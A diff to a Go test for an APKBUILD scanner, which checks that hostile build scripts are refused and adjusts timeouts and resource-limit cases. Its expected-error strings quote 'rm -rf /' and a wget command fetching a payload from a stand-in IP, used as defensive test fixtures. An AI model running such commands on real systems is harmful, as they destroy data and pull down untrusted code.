@@ -15,8 +15,8 @@ var hostileRoot = filepath.Join("testdata", "hostile")
 var hostileWant = map[string]string{
 	"rm-rf":           `rm-rf/APKBUILD:5: run "rm -rf /": external programs are not run`,
 	"wget":            `wget/APKBUILD:5: run "wget -qO- http://203.0.113.1/payload": external programs are not run`,
-	"endless-loop":    "endless-loop/APKBUILD:5: evaluate APKBUILD: time limit of 300ms exceeded",
-	"endless-assign":  "endless-assign/APKBUILD:4: evaluate APKBUILD: time limit of 300ms exceeded",
+	"endless-loop":    "endless-loop/APKBUILD:5: evaluate APKBUILD: time limit of 1s exceeded",
+	"endless-assign":  "endless-assign/APKBUILD:4: evaluate APKBUILD: time limit of 1s exceeded",
 	"grow":            "grow/APKBUILD:6: evaluate APKBUILD: variable _s holds 2097152 bytes, over the limit of 1048576",
 	"printf-width":    "printf-width/APKBUILD:4: evaluate printf: field width 100000000 is over the limit",
 	"syntax-error":    "syntax-error/APKBUILD:6: parse APKBUILD:",
@@ -28,6 +28,10 @@ var hostileWant = map[string]string{
 	"recursion":       "recursion/APKBUILD:5: evaluate APKBUILD: more than 1000 function calls (endless recursion?)",
 	"eval-recursion":  "eval-recursion/APKBUILD:5: evaluate APKBUILD: more than 1000 function calls (endless recursion?)",
 	"printf-star":     "printf-star/APKBUILD:4: evaluate printf: field width 200000000 is over the limit",
+	"replace-all":     "replace-all/APKBUILD:5: evaluate APKBUILD: a replacement with expansions in ${v//pattern/replacement} is not supported",
+	"subst-loop":      "subst-loop/APKBUILD:6: evaluate APKBUILD: command substitution output over the limit of 4194304 bytes",
+	"printf-repeat":   "printf-repeat/APKBUILD:7: evaluate printf: output of about",
+	"nested-default":  "nested-default/APKBUILD:5: evaluate APKBUILD: 40200 expansions in one word is over the limit of 256",
 	"background":      "background/APKBUILD:4: evaluate APKBUILD: background commands (&) are not supported",
 	"big-string":      "big-string/APKBUILD: read APKBUILD: 100000023 bytes is over the limit of 1048576",
 	"good":            "",
@@ -53,7 +57,7 @@ func TestHostile(t *testing.T) {
 	os.Remove("/tmp/apkfarm-pwned")
 
 	start := time.Now()
-	res, err := Scan(context.Background(), root, ScanOptions{Arches: []string{"x86_64", "armv7"}, Timeout: 300 * time.Millisecond})
+	res, err := Scan(context.Background(), root, ScanOptions{Arches: []string{"x86_64", "armv7"}, Timeout: time.Second})
 	if err != nil {
 		t.Fatal(err)
 	}
